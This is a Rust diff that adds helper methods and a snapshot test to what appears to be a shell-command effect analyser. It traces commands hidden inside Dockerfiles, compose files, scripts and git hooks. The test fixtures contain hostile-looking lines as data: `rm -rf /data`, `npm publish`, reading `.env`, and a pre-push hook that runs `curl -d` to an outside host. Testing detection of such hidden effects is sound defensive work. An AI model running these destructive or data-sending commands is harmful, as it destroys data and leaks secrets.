@@ -148,6 +148,16 @@ impl Commands {
         self.origins.len()
     }
 
+    /// Takes away which command has which of the effects found since `mark`.
+    pub fn forgets(&mut self, mark: usize) -> Vec<(Option<usize>, Slot)> {
+        self.origins.split_off(mark.min(self.origins.len()))
+    }
+
+    /// Makes another command the one that is being looked at; which it was before.
+    pub fn becomes(&mut self, current: Option<usize>) -> Option<usize> {
+        std::mem::replace(&mut self.current, current)
+    }
+
     /// The effects since `mark` that belong to no command inside the one which begins next are that one's:
     /// its redirections are looked at before it is.
     pub fn hands_over(&mut self, mark: usize) {
@@ -182,9 +192,12 @@ mod tests {
     use crate::fixture::understood;
 
     fn check(command: &str) -> String {
-        let Understanding { commands, effects, .. } = understood(command, &[]);
+        shown(&understood(command, &[]))
+    }
+
+    fn shown(Understanding { commands, effects, .. }: &Understanding) -> String {
         let mut lines = Vec::new();
-        for command in &commands {
+        for command in commands {
             let mut depth = 0;
             let mut parent = command.parent;
             while let Some(index) = parent {
@@ -220,6 +233,52 @@ mod tests {
         cat: cat .env 8–16 [secret.read]
         echo: echo "$(cat .env)" 0–18 [fs.write, exec.read]
         "#);
+    }
+
+    /// What is collected by itself first, of which only some counts.
+    #[test]
+    fn what_counts_only_beyond_a_place_stays_its_commands() {
+        let files = [
+            ("/repo/Dockerfile", "FROM x\nRUN npm ci\nRUN rm -rf /data && npm publish\n"),
+            (
+                "/repo/compose.yaml",
+                "services:\n  a:\n    build: .\n    command: sh -c 'ls; git push origin main'\n",
+            ),
+            ("/repo/d.sh", "git fetch\ndocker build .\n"),
+        ];
+        let check = |command: &str| shown(&understood(command, &files));
+        assert_snapshot!(check("git fetch; docker build -t x ."), @"
+        git: git fetch 0–9 [git.fetch]
+        docker: docker build -t x . 11–30 [container.build]
+          npm: npm ci 11–30 []
+          rm: rm -rf /data 11–30 []
+          npm: npm publish 11–30 [package.publish]
+        ");
+        assert_snapshot!(check("rm -rf src && docker compose up"), @"
+        rm: rm -rf src 0–10 [fs.delete]
+        docker: docker compose up 14–31 [container.run]
+          npm: npm ci 14–31 []
+          rm: rm -rf /data 14–31 []
+          npm: npm publish 14–31 [package.publish]
+          sh: sh -c 'ls; git push origin main' 14–31 []
+            ls: ls 14–31 []
+            git: git push origin main 14–31 []
+        ");
+        assert_snapshot!(check("sh d.sh"), @"
+        sh: sh d.sh 0–7 [fs.read]
+          git: git fetch 0–7 [git.fetch]
+          docker: docker build . 0–7 [container.build]
+            npm: npm ci 0–7 []
+            rm: rm -rf /data 0–7 []
+            npm: npm publish 0–7 [package.publish]
+        ");
+        let hook = [("/repo/.git/hooks/pre-push", "#!/bin/sh\nls\ncurl -d a https://x.example\n")];
+        assert_snapshot!(shown(&understood("rm -rf src; git push origin feature", &hook)), @"
+        rm: rm -rf src 0–10 [fs.delete]
+        git: git push origin feature 12–35 [git.push]
+          ls: ls 12–35 []
+          curl: curl -d a https://x.example 12–35 [net.send]
+        ");
     }
 
     #[test]
